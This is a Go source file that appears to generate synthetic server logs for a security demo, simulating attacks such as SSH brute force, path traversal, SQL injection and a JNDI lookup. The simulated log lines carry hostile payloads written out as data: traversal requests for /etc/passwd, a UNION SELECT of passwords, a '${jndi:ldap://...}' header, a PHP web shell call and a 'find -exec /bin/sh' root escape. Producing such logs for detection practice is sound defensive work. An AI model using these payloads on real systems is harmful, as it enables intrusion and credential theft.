package demo

import (
	"fmt"
	"time"
)

// tale is what one attacker does.
type tale struct {
	name string
	tell func(l *Logs, at time.Time, from string)
}

// allTales are the attacks there are. The first four come first, for they show what there is; then all come in turn,
// each round in another order.
var allTales = []tale{
	{"path traversal", traverse},
	{"break-in", breakIn},
	{"sudo abuse", abuseSudo},
	{"scan", scan},
	{"password guessing", guess},
	{"password spray", spray},
	{"login from a new place", newPlace},
	{"SQL injection", injectSQL},
	{"web login guessing", guessWeb},
	{"JNDI lookup", lookUp},
	{"web shell", dropScript},
	{"second root", becomeRoot},
	{"new account", addAccount},
}

// untilNextTale is the time from one attacker to the next: minutes, after the first few.
func (l *Logs) untilNextTale() time.Duration {
	if l.told < len(firstTales) {
		return firstTales[l.told] - firstTales[l.told-1]
	}
	return 2*time.Minute + time.Duration(l.dice.Int64N(int64(4*time.Minute)))
}

func (l *Logs) tell(at time.Time) {
	if len(l.tales) == 0 {
		l.tales = append(l.tales, allTales...)
		l.dice.Shuffle(len(l.tales), func(i, j int) { l.tales[i], l.tales[j] = l.tales[j], l.tales[i] })
	}
	next := l.tales[0]
	if l.told < len(firstTales) {
		next = allTales[l.told]
	} else {
		l.tales = l.tales[1:]
	}
	l.told++
	l.telling = next.name
	defer func() { l.telling = "" }()
	next.tell(l, at, fmt.Sprintf("%s.%d", choose(l, "203.0.113", "192.0.2"), 1+l.dice.IntN(254)))
}

// traverse asks a web server for files outside of its root until one is handed out.
func traverse(l *Logs, at time.Time, from string) {
	host, agent := choose(l, webHosts...), choose(l, browsers...)
	for _, target := range []string{"/static/../../etc/passwd", "/static/..%2f..%2fetc/passwd", "/download?file=../../etc/passwd"} {
		l.request(at, host, from, "GET", target, choose(l, 400, 404), 153, agent)
		at = l.after(at, 300*time.Millisecond)
	}
	l.request(at, host, from, "GET", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 200, 1874, agent)
}

// failures are logins that fail, one after the other.
func (l *Logs) failures(at time.Time, host, from string, n int, users ...string) time.Time {
	for i := range n {
		user := users[i%len(users)]
		invalid := "invalid user "
		for _, p := range staff {
			if p.name == user || user == "root" {
				invalid = ""
			}
		}
		l.daemon(at, host, "sshd", "Failed password for %s%s from %s port %d ssh2", invalid, user, from, l.port())
		at = l.after(at, 350*time.Millisecond)
	}
	return at
}

// guess tries passwords over SSH, in vain.
func guess(l *Logs, at time.Time, from string) {
	host := choose(l, "bastion", "web-01", "web-02")
	at = l.failures(at, host, from, 14+l.dice.IntN(20), "root", "admin", "ubuntu")
	l.daemon(at, host, "sshd", "Connection closed by authenticating user root %s port %d [preauth]", from, l.port())
}

// breakIn guesses passwords over SSH until one is right.
func breakIn(l *Logs, at time.Time, from string) {
	host := choose(l, "bastion", "web-01", "web-02")
	at = l.failures(at, host, from, 13+l.dice.IntN(8), "root", "deploy")
	l.daemon(at, host, "sshd", "Accepted password for deploy from %s port %d ssh2", from, l.port())
}

// spray tries one password on many names.
func spray(l *Logs, at time.Time, from string) {
	names := []string{"alice", "bob", "carol.jones", "m.ng", "deploy", "svc-backup", "backup", "test", "oracle", "git"}
	l.failures(at, "bastion", from, len(names), names...)
}

// newPlace is one of the staff who logs in from where they never did.
func newPlace(l *Logs, at time.Time, from string) {
	p := staff[l.dice.IntN(3)]
	l.daemon(at, p.hosts[0], "sshd", "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%043d", p.name, from, l.port(), p.uid)
}

// abuseSudo is someone who may not, and tries.
func abuseSudo(l *Logs, at time.Time, _ string) {
	host := choose(l, "build-agent-3", "web-01", "web-02", "db-primary", "bastion")
	p := choose(l, staff[3], person{name: "contractor7", uid: 1031}, person{name: "intern2", uid: 1044})
	for range 3 {
		l.daemon(at, host, "sudo", "pam_unix(sudo:auth): authentication failure; logname=%s uid=%d euid=0 tty=/dev/pts/1 ruser=%s rhost=  user=%s", p.name, p.uid, p.name, p.name)
		at = l.after(at, 2*time.Second)
	}
	l.daemon(at, host, "sudo", "%8s : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow", p.name, p.name)
}

// scan looks for forgotten files with a tool, and finds one.
func scan(l *Logs, at time.Time, from string) {
	host := choose(l, webHosts...)
	agent := choose(l, "gobuster/3.6", "feroxbuster/2.11.0", browsers[0])
	words := []string{"admin", "backup", "old", "test", "dev", "phpmyadmin", "api", "console", "private", "upload", "config", "db"}
	for i := range 40 {
		l.request(at, host, from, "GET", fmt.Sprintf("/%s%d/", words[i%len(words)], i/len(words)), 404, 153, agent)
		at = l.after(at, 100*time.Millisecond)
	}
	l.request(at, host, from, "GET", "/.env", 200, 412, agent)
}

// injectSQL tries SQL in a parameter.
func injectSQL(l *Logs, at time.Time, from string) {
	host, agent := choose(l, webHosts...), choose(l, browsers...)
	for _, target := range []string{"/products/42'", "/products?id=42+and+1=1", "/products?id=42%20union%20all%20select%20name,password%20from%20users--"} {
		l.request(at, host, from, "GET", target, choose(l, 200, 500), 900+l.dice.IntN(3000), agent)
		at = l.after(at, 700*time.Millisecond)
	}
}

// guessWeb tries passwords at the login of a site.
func guessWeb(l *Logs, at time.Time, from string) {
	host := choose(l, webHosts...)
	for range 24 + l.dice.IntN(12) {
		l.request(at, host, from, "POST", "/login", 401, 312, "python-requests/2.32.4")
		at = l.after(at, 250*time.Millisecond)
	}
}

// lookUp hides a lookup in a header that some loggers follow.
func lookUp(l *Logs, at time.Time, from string) {
	l.request(at, choose(l, webHosts...), from, "GET", "/", 200, 5120, "${jndi:ldap://"+from+":1389/a}")
}

// dropScript calls a script that does not belong among the uploads.
func dropScript(l *Logs, at time.Time, from string) {
	host, name := choose(l, webHosts...), choose(l, "avatar", "thumb", "img_0042", "a")
	l.request(at, host, from, "POST", "/uploads", 201, 64, browsers[0])
	l.request(l.after(at, time.Second), host, from, "GET", "/uploads/"+name+fmt.Sprint(l.dice.IntN(900))+".php?c=id", 200, 54, "curl/8.14.1")
}

// becomeRoot breaks out of a command that sudo allows, and makes a second root.
func becomeRoot(l *Logs, at time.Time, _ string) {
	host, user := choose(l, "web-01", "web-02"), choose(l, "deploy", "bob")
	l.ran(at, host, user, `/usr/bin/find /var/www -maxdepth 0 -exec /bin/sh ;`)
	l.daemon(l.after(at, 4*time.Second), host, "useradd", "new user: name=%s, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/2", choose(l, "sysd", "toor", "ntpd2"))
}

// addAccount makes an account to come back with.
func addAccount(l *Logs, at time.Time, _ string) {
	host, name := choose(l, "web-01", "web-02", "db-primary"), choose(l, "svc", "monitor", "cache")+fmt.Sprint(l.dice.IntN(90))
	l.daemon(at, host, "useradd", "new user: name=%s, UID=%d, GID=1100, home=/home/%s, shell=/bin/bash, from=/dev/pts/3", name, 1100+l.dice.IntN(50), name)
	l.daemon(l.after(at, 2*time.Second), host, "usermod", "add '%s' to group 'docker'", name)
}
